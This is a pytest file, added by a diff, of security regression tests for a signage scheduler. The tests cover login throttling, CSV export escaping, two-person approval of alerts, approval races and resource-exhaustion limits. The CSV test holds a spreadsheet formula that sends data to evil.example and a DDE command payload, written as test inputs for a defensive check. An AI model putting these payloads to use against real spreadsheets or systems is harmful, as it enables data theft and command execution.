@@ -1,0 +1,316 @@
+"""Holes found by the second security review, attacked over real HTTP against the real scheduler on loopback.
+
+Each test fails on the code before its fix: password guessing through the API's Basic credentials (no
+throttle), one guesser behind the TLS proxy locking every colleague out, spreadsheet formulas in the
+proof-of-play CSV, one admin airing any text through a CAP feed of their own, an edit slipped in
+between an approver opening an announcement and clicking Approve, any logged-in account making the
+server hold up to a gigabyte of form fields in memory, anyone making it read a whole upload
+before asking who they are, a viewer flooding a screen with screenshot requests, a locked-out guesser
+filling the audit log, a viewer holding every worker thread with previews of many instants, fleet changes
+through the API (which widen an approved announcement's reach) missing from the audit log.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import socket
+import uuid
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+import requests
+from fake_cap import FakeCapFeed, cap_document
+from tests_support import enrol
+from web_support import WebClient, logged_in
+
+from scheduler.auth import create_user
+from scheduler.clientaddr import parse_networks
+from scheduler.sources_jobs import SourcePoller
+
+pytestmark = pytest.mark.slow
+TIMEOUT_S = 30
+
+
+@pytest.fixture
+def feed() -> Iterator[FakeCapFeed]:
+    server = FakeCapFeed()
+    yield server
+    server.stop()
+
+
+def _api(live: Any, method: str, path: str, auth: tuple[str, str], **kwargs: Any) -> requests.Response:
+    return requests.request(method, f"{live.url}/api/v1/admin{path}", auth=auth, timeout=TIMEOUT_S, **kwargs)
+
+
+def test_password_guessing_through_the_api_is_throttled_like_the_login_form(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    right = ("editor", service.demo_accounts.editor_password)
+    for i in range(service.config.login_max_failures):
+        wrong = _api(live_scheduler, "GET", "/announcements", ("editor", f"tebakan-{i}"))
+        assert wrong.status_code == 401, wrong.text
+    locked = _api(live_scheduler, "GET", "/announcements", right)
+    assert locked.status_code == 429, locked.text  # even the right password, until the lockout passes
+    assert locked.json() == {"ok": False, "status": 429, "field": "password", "error": locked.json()["error"]}
+    assert "too many failed logins" in locked.json()["error"]
+    # The web form shares the count: the guessed user name is locked there too.
+    assert WebClient(live_scheduler.url).login(*right).status_code == 429
+    with service.lock:
+        assert service.db.table("audit_log").count_where("action = 'login.failed' and detail like '%(api)'") >= 5
+    # Another account from another address is not affected.
+    other = _api(live_scheduler, "GET", "/announcements", ("admin", service.demo_accounts.admin_password))
+    assert other.status_code == 200
+
+
+def test_one_guesser_behind_the_tls_proxy_does_not_lock_every_colleague_out(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    service.trusted_proxies = parse_networks(["127.0.0.1"])  # the scheduler runs behind a TLS proxy on this host
+    attacker = WebClient(live_scheduler.url)
+    attacker.http.headers["X-Forwarded-For"] = "203.0.113.9"
+    for i in range(service.config.login_max_failures_per_address):
+        assert attacker.login(f"tebak{i}", "salah").status_code == 401
+    assert attacker.login("admin", service.demo_accounts.admin_password).status_code == 429
+    colleague = WebClient(live_scheduler.url)
+    colleague.http.headers["X-Forwarded-For"] = "198.51.100.7"
+    assert colleague.login("admin", service.demo_accounts.admin_password).status_code == 303
+
+
+def test_report_csv_keeps_formulas_typed_by_staff_or_sent_by_a_player_as_text(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    token = enrol(live_scheduler, "desa-antibar", "TPC234")["token"]
+    editor = ("editor", service.demo_accounts.editor_password)
+    title = '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk jadwal")'
+    body = {"title": title, "targets": {"displays": ["desa-antibar"]}}
+    ann_id = _api(live_scheduler, "POST", "/announcements", editor, json=body).json()["announcement"]["id"]
+    now = service.now_iso()
+    events = [{"id": str(uuid.uuid4()), "item_id": item, "started_at": now, "ended_at": now, "duration_ms": 10000}
+              for item in (f"ann-{ann_id}", "@SUM(1+1)*cmd|' /C calc'!A0")]  # fmt: skip
+    sent = requests.post(f"{live_scheduler.url}/api/v1/player/play-events", json={"events": events},
+                         headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT_S)  # fmt: skip
+    assert sent.status_code == 200 and sent.json()["accepted"] == 2, sent.text
+    exported = logged_in(live_scheduler, "admin").get("/admin/reports.csv")
+    assert exported.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    cells = [row[column] for row in rows for column in ("display_id", "display_name", "item_id", "title")]
+    assert "'" + title in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells, rows
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+
+
+def _cap_form(client: WebClient, feed: FakeCapFeed, options: dict[str, Any]) -> dict[str, str]:
+    return {"csrf_token": client.token("/admin/sources"), "id": "peringatan", "name": "Peringatan dini",
+            "kind": "cap", "url": feed.url, "poll_interval_min": "1", "timeout_s": "2",
+            "options": json.dumps(options)}  # fmt: skip
+
+
+def test_one_admin_cannot_air_text_through_a_cap_feed_of_their_own(live_scheduler: Any, feed: FakeCapFeed) -> None:
+    service = live_scheduler.service
+    token = enrol(live_scheduler, "desa-antibar", "TPK234")["token"]  # in group kabupaten
+    admin = logged_in(live_scheduler, "admin")
+    areas = {"Mempawah": ["kabupaten"]}
+    # 1. A feed that airs by itself cannot be set up from the web admin.
+    r = admin.post("/admin/sources", _cap_form(admin, feed, {"areas": areas, "auto_air": True}))
+    assert r.status_code == 400 and "auto_air" in r.text and "signage sources add" in r.text
+    with service.lock:
+        assert service.db.table("data_sources").count_where("id = 'peringatan'") == 0
+    # 2. Without it, the alert waits for an approver -- and the admin who chose the feed is not that approver.
+    r = admin.post("/admin/sources", _cap_form(admin, feed, {"areas": areas}))
+    assert r.status_code == 200 and "/admin/sources/peringatan" in r.url
+    now = datetime.now(UTC).replace(microsecond=0)
+    feed.publish(
+        "PALSU1",
+        cap_document(
+            "PALSU1",
+            headline="PESAN PALSU DARI ADMIN",
+            effective=now.isoformat(),
+            expires=(now + timedelta(hours=2)).isoformat(),
+        ),
+    )
+    SourcePoller(service, tick_s=3600).run_due()
+    with service.lock:
+        [alert] = service.db.table("announcements").rows_where("title = 'PESAN PALSU DARI ADMIN'")
+    assert alert["status"] == "draft" and alert["layer"] == "emergency"
+    admin_auth = ("admin", service.demo_accounts.admin_password)
+    refused = _api(live_scheduler, "POST", f"/announcements/{alert['id']}/approve", admin_auth)
+    assert refused.status_code == 403 and "two-person" in refused.json()["error"], refused.text
+    manifest = requests.get(f"{live_scheduler.url}/api/v1/player/manifest",
+                            headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT_S)  # fmt: skip
+    assert "PESAN PALSU" not in manifest.text
+    # A second person reads it and decides.
+    with service.lock:
+        create_user(service.db, "penyetuju", "approver", "password-penyetuju", service.now_iso())
+    ok = _api(live_scheduler, "POST", f"/announcements/{alert['id']}/approve", ("penyetuju", "password-penyetuju"))
+    assert ok.status_code == 200, ok.text
+
+
+def _approve_form(client: WebClient, ann_id: int) -> dict[str, str]:
+    """The approve button's form as the approver's page has it (CSRF token and the version shown)."""
+    page = client.get(f"/admin/announcements/{ann_id}").text
+    form = re.search(rf'action="/admin/announcements/{ann_id}/approve">(.*?)</form>', page, re.S)
+    assert form, "no approve button on the page"
+    return dict(re.findall(r'name="([a-z_]+)" value="([^"]*)"', form.group(1)))
+
+
+def test_an_edit_made_while_the_approver_reads_is_never_approved_unseen(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    token = enrol(live_scheduler, "desa-antibar", "TPV234")["token"]
+    editor = ("editor", service.demo_accounts.editor_password)
+    with service.lock:
+        create_user(service.db, "penyetuju", "approver", "password-penyetuju", service.now_iso())
+    approver = logged_in(live_scheduler, "penyetuju", "password-penyetuju")
+    body = {"title": "Posyandu Balita", "body": "Senin pagi", "targets": {"displays": ["desa-antibar"]}}
+    ann = _api(live_scheduler, "POST", "/announcements", editor, json=body).json()["announcement"]
+    _api(live_scheduler, "POST", f"/announcements/{ann['id']}/submit", editor).raise_for_status()
+    # The approver opens the page and reads the harmless text...
+    form = _approve_form(approver, ann["id"])
+    assert form["version"] == ann["version"]
+    # ...the editor swaps the content meanwhile (still "submitted")...
+    swapped = {**body, "title": "PESAN PALSU", "layer": "emergency"}
+    edited = _api(live_scheduler, "PUT", f"/announcements/{ann['id']}", editor, json=swapped).json()["announcement"]
+    assert edited["status"] == "submitted" and edited["version"] != ann["version"]
+    # ...and the click on the stale page approves nothing.
+    page = approver.post(f"/admin/announcements/{ann['id']}/approve", form)
+    assert page.status_code == 200 and "diubah setelah Anda membukanya" in page.text
+    with service.lock:
+        assert service.db.table("announcements").get(ann["id"])["status"] == "submitted"
+    manifest = requests.get(f"{live_scheduler.url}/api/v1/player/manifest",
+                            headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT_S)  # fmt: skip
+    assert "PESAN PALSU" not in manifest.text
+    # The API the same: the version read is checked (409, one error shape).
+    approver_auth = ("penyetuju", "password-penyetuju")
+    stale = _api(live_scheduler, "POST", f"/announcements/{ann['id']}/approve", approver_auth,
+                 json={"version": ann["version"]})  # fmt: skip
+    assert stale.status_code == 409 and stale.json()["field"] == "version" and stale.json()["ok"] is False
+    # Having read the new content, the approver decides on it.
+    assert "PESAN PALSU" in approver.get(f"/admin/announcements/{ann['id']}").text
+    fresh = _approve_form(approver, ann["id"])
+    assert fresh["version"] == edited["version"]
+    assert "Disetujui" in approver.post(f"/admin/announcements/{ann['id']}/approve", fresh).text
+    with service.lock:
+        assert service.db.table("announcements").get(ann["id"])["status"] == "approved"
+
+
+def test_a_logged_in_viewer_cannot_make_the_server_hold_huge_forms_in_memory(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    with service.lock:
+        create_user(service.db, "petugas", "viewer", "password-petugas", service.now_iso())
+    viewer = logged_in(live_scheduler, "petugas", "password-petugas")
+    token = viewer.token()
+    url = "/admin/announcements/1/approve"
+    # An upload path allows 500 MiB for a file; a plain form there is parsed in memory: the default 1 MiB.
+    fields = "&".join(f"f{i}=" + "x" * 900_000 for i in range(3))  # each under Starlette's 1 MiB per field
+    big = viewer.post(url, data=f"csrf_token={token}&{fields}",
+                      headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
+    assert big.status_code == 413 and big.json()["field"] == "body", big.text[:200]
+    # Multipart: one file, and text fields of a staff form's size only (each would be held in memory).
+    many_files = [("file", (f"f{i}.png", b"x" * 10, "image/png")) for i in range(3)]
+    r = viewer.post("/admin/media", data={"csrf_token": token}, files=many_files)
+    assert r.status_code == 400 and "files" in r.text, r.text[:200]
+    long_field = viewer.post(url, data={"csrf_token": token, "reason": "x" * 200_000},
+                             files={"file": ("a.png", b"x", "image/png")})  # fmt: skip
+    assert long_field.status_code == 400 and "maximum size" in long_field.text, long_field.text[:200]
+    # A form of ordinary size still works (here: refused by the policy, a viewer may not approve).
+    assert viewer.post(url, {"csrf_token": token}).status_code == 403
+
+
+def test_the_api_upload_asks_who_is_calling_before_reading_the_body(live_scheduler: Any) -> None:
+    """A stranger's 400 MiB "upload" is answered 401 at once: no byte of it is read, spooled or parsed."""
+    host, port = live_scheduler.url.removeprefix("http://").split(":")
+    head = (f"POST /api/v1/admin/media HTTP/1.1\r\nHost: {host}:{port}\r\n"
+            "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 419430400\r\n\r\n"
+            '--b\r\nContent-Disposition: form-data; name="junk"\r\n\r\n' + "x" * 1000)  # fmt: skip
+    with socket.create_connection((host, int(port)), timeout=TIMEOUT_S) as conn:
+        conn.sendall(head.encode())  # ...and the rest never comes
+        answer = conn.recv(4096).decode(errors="replace")
+    assert answer.startswith("HTTP/1.1 401"), answer[:200]
+    # With credentials, the form is bounded: one file, small text fields.
+    editor = ("editor", live_scheduler.service.demo_accounts.editor_password)
+    files = {"file": ("a.png", b"x", "image/png"), "note": (None, "x" * 200_000)}
+    r = _api(live_scheduler, "POST", "/media", editor, files=files)
+    assert r.status_code == 400 and "maximum size" in r.json()["error"], r.text[:200]
+    missing = _api(live_scheduler, "POST", "/media", editor, json={"file": "x"})
+    assert missing.status_code == 400 and missing.json()["field"] == "file", missing.text
+
+
+def test_a_viewer_cannot_flood_a_screen_with_screenshot_requests(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    with service.lock:
+        create_user(service.db, "petugas", "viewer", "password-petugas", service.now_iso())
+    viewer = ("petugas", "password-petugas")
+    answers = [_api(live_scheduler, "POST", "/displays/kantor-bupati/screenshot-request", viewer).status_code
+               for _ in range(10)]  # fmt: skip
+    assert answers.count(202) == 6 and answers[6:] == [429] * 4, answers
+    events = service.events.missed("kantor-bupati", f"{service.events.boot}-0")  # all sent since the start
+    sent = [e for e in events if e.type == "screenshot"]
+    assert len(sent) == 6  # the refused ones never reach the player
+    refused = _api(live_scheduler, "POST", "/displays/kantor-bupati/screenshot-request", viewer)
+    assert refused.json()["field"] == "display_id" and "wait a minute" in refused.json()["error"]
+    # Another display is not affected; the web admin says it in words.
+    assert _api(live_scheduler, "POST", "/displays/desa-antibar/screenshot-request", viewer).status_code == 202
+    web = logged_in(live_scheduler, "petugas", "password-petugas")
+    page = web.post("/admin/displays/kantor-bupati/screenshot", {"csrf_token": web.token()})
+    assert page.status_code == 200 and "tunggu satu menit" in page.text
+
+
+def test_a_locked_out_guesser_does_not_fill_the_audit_log(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    attacker = WebClient(live_scheduler.url)
+    for i in range(service.config.login_max_failures):
+        assert attacker.login("editor", f"tebakan-{i}").status_code == 401
+    for i in range(25):  # refused without a password check; each used to write an audit row
+        assert attacker.login("editor", f"lagi-{i}").status_code == 429
+        assert _api(live_scheduler, "GET", "/fleet", ("editor", f"lagi-{i}")).status_code == 429
+    with service.lock:
+        assert service.db.table("audit_log").count_where("action = 'login.locked'") == 1
+        assert service.db.table("audit_log").count_where("action = 'login.failed'") == service.config.login_max_failures
+
+
+def test_a_viewer_asking_for_many_previews_at_once_is_refused_not_queued(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    with service.lock:
+        create_user(service.db, "petugas", "viewer", "password-petugas", service.now_iso())
+    viewer = ("petugas", "password-petugas")
+    url = f"{live_scheduler.url}/api/v1/admin/preview/displays/desa-antibar.png"
+
+    def frame(minute: int) -> requests.Response:  # a distinct instant each: nothing is cached
+        return requests.get(url, params={"at": f"2026-12-04 10:{minute:02d}"}, auth=viewer, timeout=300)
+
+    with ThreadPoolExecutor(max_workers=20) as pool:
+        answers = list(pool.map(frame, range(20)))
+    statuses = sorted(a.status_code for a in answers)
+    assert set(statuses) == {200, 429} and statuses.count(200) >= 2, statuses
+    refused = next(a for a in answers if a.status_code == 429)
+    assert refused.json()["field"] == "preview" and "try again" in refused.json()["error"]
+    assert frame(59).status_code == 200  # once drawn, the renderer takes the next one
+
+
+def test_fleet_changes_through_the_api_are_audited_like_the_web_admins(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    admin = ("admin", service.demo_accounts.admin_password)
+    with service.lock:
+        before = json.loads(service.db.table("displays").get("desa-antibar")["groups"])
+    r = _api(live_scheduler, "POST", "/groups", admin, json={"id": "pasar", "name": "Pasar", "kind": "tag"})
+    assert r.status_code == 201, r.text
+    r = _api(live_scheduler, "PATCH", "/displays/desa-antibar", admin, json={"groups": [*before, "pasar"]})
+    assert r.status_code == 200, r.text
+    r = _api(live_scheduler, "POST", "/displays", admin, json={"id": "pasar-sebukit", "name": "Pasar", "width": 320,
+                                                                "height": 160})  # fmt: skip
+    assert r.status_code == 201, r.text
+    assert _api(live_scheduler, "DELETE", "/displays/pasar-sebukit", admin).status_code == 200
+    with service.lock:
+        fleet_rows = service.db.table("audit_log").rows_where("action like 'display.%' or action like 'group.%'")
+        rows = {r["action"]: r for r in fleet_rows}
+    assert {"group.create", "display.edit", "display.create", "display.delete"} <= set(rows), sorted(rows)
+    edit = rows["display.edit"]
+    assert edit["subject"] == "display:desa-antibar" and edit["user_id"] is not None
+    assert "pasar" not in json.loads(edit["before"])["groups"] and "pasar" in json.loads(edit["after"])["groups"]
+    # An enrolment approved, and a signing key rotated, through the API are audited too.
+    enrol(live_scheduler, "kec-sungai-pinyuh", "TPA234")
+    assert _api(live_scheduler, "POST", "/keys/rotate", admin).status_code == 200
+    with service.lock:
+        assert service.db.table("audit_log").count_where("action = 'display.enrol'") == 1
+        assert service.db.table("audit_log").count_where("action = 'keys.rotate' and user_id is not null") == 1
